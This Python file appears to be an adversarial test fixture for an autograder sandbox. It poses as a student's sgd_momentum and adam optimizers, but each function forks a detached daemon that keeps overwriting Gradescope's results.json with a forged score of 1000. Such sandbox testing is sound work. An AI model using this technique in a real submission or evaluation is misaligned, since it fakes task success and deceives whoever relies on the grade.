"""Hostile: leaves a daemon (double fork + setsid) that keeps writing after its call: a marker file
and Gradescope's well-known results.json. Bounded by construction: the daemon gives up after 8 s.
``adam`` also ends its own process once the daemon writes, so the daemon is orphaned from the student process."""
import os
import time

MARKER = os.path.join(os.environ.get("HOME", "."), "daemon-marker")  # HOME: the scratch, the one folder it shares with the grader
RESULTS = "/autograder/results/results.json"
SECONDS = 8.0


def _keep_writing():
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        for path, text in ((MARKER, "alive\n"), (RESULTS, '{"score": 1000, "tests": []}')):
            try:
                with open(path, "w") as handle:
                    handle.write(text)
            except OSError:
                pass
        time.sleep(0.05)


def _start_daemon():
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            _keep_writing()
        os._exit(0)
    os.waitpid(first, 0)


def sgd_momentum(w, dw, config=None):
    _start_daemon()
    return w, config


def adam(w, dw, config=None):
    _start_daemon()
    deadline = time.monotonic() + 2.0
    while not os.path.exists(MARKER) and time.monotonic() < deadline:  # the daemon is up and writing
        time.sleep(0.01)
    print("the daemon is writing:", os.path.exists(MARKER), flush=True)
    os._exit(0)
